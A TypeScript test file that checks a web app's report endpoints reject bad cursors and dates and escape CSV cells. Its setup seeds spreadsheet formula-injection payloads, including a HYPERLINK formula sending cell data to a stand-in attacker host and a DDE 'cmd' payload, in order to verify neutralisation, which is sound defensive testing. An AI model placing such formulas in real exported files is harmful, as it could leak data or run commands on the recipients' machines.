import { generatePrivateKey, privateKeyToAccount } from "viem/accounts";
import { afterAll, beforeAll, describe, expect, inject, it } from "vitest";
import { credit } from "@/lib/ledger";
import type { RunningApp } from "@/lib/server/start";
import { type Origin, startOrigin } from "@/test/helpers/origin";
import { asCaller, endpointInput, signIn } from "@/test/helpers/provider";
import { startTestApp } from "@/test/helpers/server";

const target = inject("dbTargets").includes("postgres") ? "postgres" : "pglite";
const b64 = (s: string) => Buffer.from(s).toString("base64url");

// Every query parameter that reaches SQL, at and past the edges of what the database holds.
const OUT_OF_RANGE_CURSORS = [
  "99999999999999999999999", // past bigint
  "9223372036854775808", // bigint max + 1
  "-1",
  "0x10",
  "1e3",
  " 1",
  "abc",
];
const BAD_CUSTOMER_CURSORS = [
  b64("+275760-09-13T00:00:00.000Z|0xabc"), // a JS date PostgreSQL cannot store
  b64("-271821-04-20T00:00:00.000Z|0xabc"),
  b64("not a date|0xabc"),
  b64("2026-01-01T00:00:00.000Z"), // no wallet
  b64(`2026-01-01T00:00:00.000Z|${"a".repeat(500)}`),
  "%%%",
  "abc",
];
const BAD_DATES = [
  "-8640000000000000", // JS's first instant, 271821 BC
  "8640000000000000", // JS's last instant, AD 275760
  "+275760-09-13T00:00:00.000Z",
  "-000001-01-01T00:00:00Z",
  "10000-01-01",
  "99999999999999999999",
  "2026-13-45",
  "yesterday",
];

describe("report queries: bad cursors and dates are 400, CSV cells are inert", () => {
  let app: RunningApp;
  let origin: Origin;
  let asAlice: ReturnType<typeof asCaller>;
  const alice = privateKeyToAccount(generatePrivateKey());
  const wallet = alice.address.toLowerCase();

  beforeAll(async () => {
    origin = await startOrigin();
    app = await startTestApp({ door: "fast", target });
    asAlice = asCaller(app, { cookie: await signIn(app, alice) });
    const res = await asAlice("/api/provider/endpoints", {
      method: "POST",
      json: endpointInput("rep-api", origin.url),
    });
    expect(res.status).toBe(201);
    const ep = await app.ctx.endpoints.get("rep-api");
    for (const reference of [
      '=HYPERLINK("https://evil.example?"&A1,"click")',
      "+1+cmd|' /C calc'!A0",
      "-2+3",
      "@SUM(1+1)",
      "\tTAB",
      "\rCR",
      "plain, with a comma",
    ]) {
      await credit(app.ctx.db, {
        endpointId: ep?.id ?? 0,
        wallet,
        credits: 1n,
        kind: "grant",
        reference,
      });
    }
  });
  afterAll(async () => {
    await app?.close();
    await origin?.close();
  });

  const expect400 = async (path: string) => {
    const res = await asAlice(path);
    expect(res.status, `${path} → ${res.status}`).toBe(400);
    expect(await res.json()).toMatchObject({ error: { code: "bad_request" } });
  };

  it.each(OUT_OF_RANGE_CURSORS)("ledger and history cursor %j → 400", async (cursor) => {
    const c = encodeURIComponent(cursor);
    await expect400(`/api/provider/endpoints/rep-api/ledger?cursor=${c}`);
    await expect400(`/api/provider/endpoints/rep-api/ledger?format=csv&cursor=${c}`);
    await expect400(`/api/me/history?endpoint=rep-api&cursor=${c}`);
  });

  it.each(BAD_CUSTOMER_CURSORS)("customers cursor %j → 400", async (cursor) => {
    await expect400(
      `/api/provider/endpoints/rep-api/customers?cursor=${encodeURIComponent(cursor)}`,
    );
  });

  it.each(BAD_DATES)("from/to %j → 400 on every report", async (date) => {
    const d = encodeURIComponent(date);
    for (const path of [
      "/api/provider/endpoints/rep-api/usage",
      "/api/provider/endpoints/rep-api/usage?format=csv&x=1",
      "/api/me/usage?endpoint=rep-api",
    ]) {
      const join = path.includes("?") ? "&" : "?";
      await expect400(`${path}${join}from=${d}`);
      await expect400(`${path}${join}to=${d}`);
    }
  });

  it("the cursors a page hands out are accepted", async () => {
    const first = (await (
      await asAlice("/api/provider/endpoints/rep-api/ledger?limit=2")
    ).json()) as { nextCursor: string };
    expect(first.nextCursor).toMatch(/^\d+$/);
    const next = await asAlice(
      `/api/provider/endpoints/rep-api/ledger?limit=2&cursor=${first.nextCursor}`,
    );
    expect(next.status).toBe(200);
  });

  it.each([
    ["provider ledger", "/api/provider/endpoints/rep-api/ledger?format=csv"],
    ["buyer history", "/api/me/history?endpoint=rep-api&format=csv"],
  ])("%s CSV: no cell starts with = + - @ tab or CR", async (_name, path) => {
    const res = await asAlice(path);
    expect(res.status).toBe(200);
    const text = await res.text();
    expect(text).toContain(`"'=HYPERLINK(""https://evil.example?""&A1,""click"")"`);
    expect(text).toContain("'+1+cmd|' /C calc'!A0");
    expect(text).toContain("'-2+3");
    expect(text).toContain("'@SUM(1+1)");
    expect(text).toContain("'\tTAB");
    expect(text).toContain(`"'\rCR"`);
    expect(text).toContain('"plain, with a comma"');
    // Numbers stay numbers: a negative delta is not text.
    for (const line of text.split("\r\n").slice(1, -1)) {
      for (const cell of line.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []) {
        const value = cell.replace(/,$/, "").replace(/^"|"$/g, "");
        expect(value).not.toMatch(/^[=+@\t\r]/);
        if (value.startsWith("-")) expect(value).toMatch(/^-\d+$/);
      }
    }
  });
});
